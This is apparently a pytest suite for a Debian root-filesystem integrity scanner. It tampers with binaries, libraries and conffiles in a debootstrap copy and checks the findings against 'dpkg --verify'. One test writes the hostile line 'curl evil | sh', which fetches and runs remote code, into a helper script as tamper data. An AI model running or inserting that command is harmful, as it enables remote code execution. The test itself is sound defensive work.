"""Check 448 on a real debootstrap root, tampered in every way it must catch; dpkg --verify referees."""

from __future__ import annotations

import os
import shutil
import stat
from pathlib import Path

import pytest
from debroot import copy_root, debootstrap_root
from dpkg_verify import dpkg_verify

import scanner

pytestmark = pytest.mark.debootstrap


def _flip_one_byte(path: Path, offset: int = 200) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))  # same size, one bit different


@pytest.fixture(scope="module")
def clean_root() -> Path:
    return debootstrap_root()


@pytest.fixture(scope="module")
def tampered(tmp_path_factory: pytest.TempPathFactory, clean_root: Path) -> dict[str, object]:
    root = copy_root(clean_root, tmp_path_factory.mktemp("deb") / "root")
    assert (root / "bin").is_symlink(), "bookworm debootstrap roots are merged-/usr"
    usr_bin = root / "usr/bin"
    # modified (appended byte) — listed by coreutils as `bin/cat`: reached through bin -> usr/bin
    with open(usr_bin / "cat", "ab") as handle:
        handle.write(b"\0")
    _flip_one_byte(usr_bin / "ls")  # same size, single-byte flip, listed as `bin/ls`
    _flip_one_byte(root / "usr/lib/x86_64-linux-gnu/libacl.so.1.1.2301", 300)  # 0644 library
    (usr_bin / "head").unlink()  # missing
    (usr_bin / "tail").unlink()
    os.symlink("/bin/true", usr_bin / "tail")  # replaced-by-symlink
    os.chmod(usr_bin / "wc", 0o700)  # permission-only: not a digest finding
    conffile = root / "etc/debian_version"
    # not a binary, not a conffile: only --all-files reports it
    doc = root / "usr/share/doc/coreutils/copyright"
    with open(doc, "ab") as handle:
        handle.write(b"x")
    login_defs = root / "etc/login.defs"  # a conffile of package login
    with open(login_defs, "ab") as handle:
        handle.write(b"# changed\n")
    return {
        "root": root,
        "binaries": {
            "/usr/bin/cat": "modified",
            "/usr/bin/ls": "modified",
            "/usr/lib/x86_64-linux-gnu/libacl.so.1.1.2301": "modified",
            "/usr/bin/head": "missing",
            "/usr/bin/tail": "replaced-by-symlink",
        },
        "doc": "/usr/share/doc/coreutils/copyright",
        "conffile": "/etc/login.defs",
        "untouched_conffile": str(conffile),
    }


def _kinds(report: scanner.Report) -> dict[str, str]:
    return {finding.to_dict()["path"]: finding.kind for finding in report.findings}


def test_clean_root_has_no_findings(clean_root: Path) -> None:
    report = scanner.scan_root(clean_root, checks=["448"], all_files=True)
    assert report.findings == []
    assert report.complete, [p.to_dict() for p in report.problems]
    assert report.managers[0].manager == "dpkg" and report.managers[0].packages > 50
    assert report.stats.files_hashed > 3000


def test_default_scope_reports_each_altered_binary_and_nothing_else(tampered: dict) -> None:
    report = scanner.scan_root(tampered["root"], checks=["448"])
    assert _kinds(report) == tampered["binaries"]
    for finding in report.findings:
        assert finding.severity is scanner.Severity.HIGH
        assert finding.package is not None and finding.package.manager == "dpkg"
    ls = next(f for f in report.findings if f.path == b"usr/bin/ls")
    assert ls.package.name == "coreutils"
    assert ls.expected != ls.actual and len(ls.expected) == 32
    tail = next(f for f in report.findings if f.path == b"usr/bin/tail")
    assert tail.detail == "symlink to /bin/true"


def test_all_files_adds_documents_and_conffiles(tampered: dict) -> None:
    report = scanner.scan_root(tampered["root"], checks=["448"], all_files=True)
    expected = dict(tampered["binaries"])
    expected[tampered["doc"]] = "modified"
    expected[tampered["conffile"]] = "config-modified"
    assert _kinds(report) == expected
    config = next(f for f in report.findings if f.kind == "config-modified")
    assert config.severity is scanner.Severity.LOW


def test_dpkg_verify_agrees(tampered: dict) -> None:
    """`dpkg --verify --root` and scan-root --all-files name the same changed/missing files."""
    root = tampered["root"]
    referee = {"/" + v.path.decode() for v in dpkg_verify(root)}
    report = scanner.scan_root(root, checks=["448"], all_files=True)
    ours = {finding.to_dict()["path"] for finding in report.findings}
    assert ours == referee


def test_exclude_glob_skips_paths(tampered: dict) -> None:
    report = scanner.scan_root(tampered["root"], checks=["448"], excludes=["/usr/bin/*"])
    assert set(_kinds(report)) == {"/usr/lib/x86_64-linux-gnu/libacl.so.1.1.2301"}


def test_scan_never_writes_into_the_root(tampered: dict) -> None:
    root: Path = tampered["root"]
    before = {p: p.lstat().st_mtime_ns for p in [root, root / "usr/bin", root / "var/lib/dpkg"]}
    probe = root / "usr/bin/cat"
    atime = probe.stat().st_atime_ns
    scanner.scan_root(root, checks=["448"], all_files=True)
    assert {p: p.lstat().st_mtime_ns for p in before} == before
    assert probe.stat().st_atime_ns == atime  # O_NOATIME: reading does not touch atime


def test_directory_fifo_and_device_where_binaries_were(tmp_path: Path, clean_root: Path) -> None:
    """not-a-regular-file; kept apart because `dpkg --verify` aborts on a directory."""
    root = copy_root(clean_root, tmp_path / "root")
    (root / "usr/bin/tee").unlink()
    (root / "usr/bin/tee").mkdir()
    (root / "usr/bin/ls").unlink()
    os.mkfifo(root / "usr/bin/ls")
    (root / "usr/bin/cat").unlink()
    os.mknod(root / "usr/bin/cat", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    report = scanner.scan_root(root, checks=["448"])  # must not block on the FIFO
    found = {f.to_dict()["path"]: (f.kind, f.detail) for f in report.findings}
    assert found == {
        "/usr/bin/tee": ("not-a-regular-file", "directory"),
        "/usr/bin/ls": ("not-a-regular-file", "fifo"),
        "/usr/bin/cat": ("not-a-regular-file", "char-device"),
    }
    shutil.rmtree(root)


def test_helper_programs_outside_bin_are_in_the_default_scope(
    tmp_path: Path, clean_root: Path
) -> None:
    """dpkg records no modes: a program in usr/lib (apt's methods, e2fsprogs' helpers) that is
    deleted, replaced by a symlink or stripped of its execute bits and changed is still judged;
    the data files of a library tree (terminfo, locale) are not, and a clean root stays clean."""
    root = copy_root(clean_root, tmp_path / "root")
    (root / "usr/lib/apt/methods/http").unlink()
    (root / "usr/lib/apt/methods/gpgv").unlink()
    os.symlink("/bin/true", root / "usr/lib/apt/methods/gpgv")
    helper = root / "usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_fail"  # a shell script
    with open(helper, "ab") as handle:
        handle.write(b"\ncurl evil | sh\n")
    os.chmod(helper, 0o644)
    (root / "usr/lib/terminfo/x/xterm").unlink()  # data: --all-files only
    report = scanner.scan_root(root, checks=["448"])
    assert _kinds(report) == {
        "/usr/lib/apt/methods/http": "missing",
        "/usr/lib/apt/methods/gpgv": "replaced-by-symlink",
        "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_fail": "modified",
    }
    assert all(f.severity is scanner.Severity.HIGH for f in report.findings)
    shutil.rmtree(root)


def test_helper_rule_covers_the_programs_of_library_trees_and_little_else(
    clean_root: Path,
) -> None:
    """The path rule for dpkg (no recorded modes) against the truth of a real root: every
    program in a library tree but those named with a dot, and only a handful of data files."""
    from scanner.checks.package_binaries import _helper_path_says_binary

    programs, missed, data = 0, [], []
    for path in _dpkg_files(clean_root):
        full = clean_root / os.fsdecode(path)
        if not path.startswith((b"lib/", b"usr/lib/")) or not full.is_file() or full.is_symlink():
            continue
        executable = bool(full.stat().st_mode & 0o111) and not path.endswith(b".so")
        if executable and b".so." not in path:
            programs += 1
            if not _helper_path_says_binary(path):
                missed.append(path)
        elif _helper_path_says_binary(path):
            data.append(path)
    assert programs >= 15
    assert all(b"." in p.rpartition(b"/")[2] for p in missed), missed
    assert len(missed) <= 2 and len(data) <= 10, (missed, data)


def _dpkg_files(root: Path) -> list[bytes]:
    paths = []
    for name in os.listdir(root / "var/lib/dpkg/info"):
        if name.endswith(".md5sums"):
            for line in (root / "var/lib/dpkg/info" / name).read_bytes().splitlines():
                paths.append(line.split(None, 1)[1])
    return paths
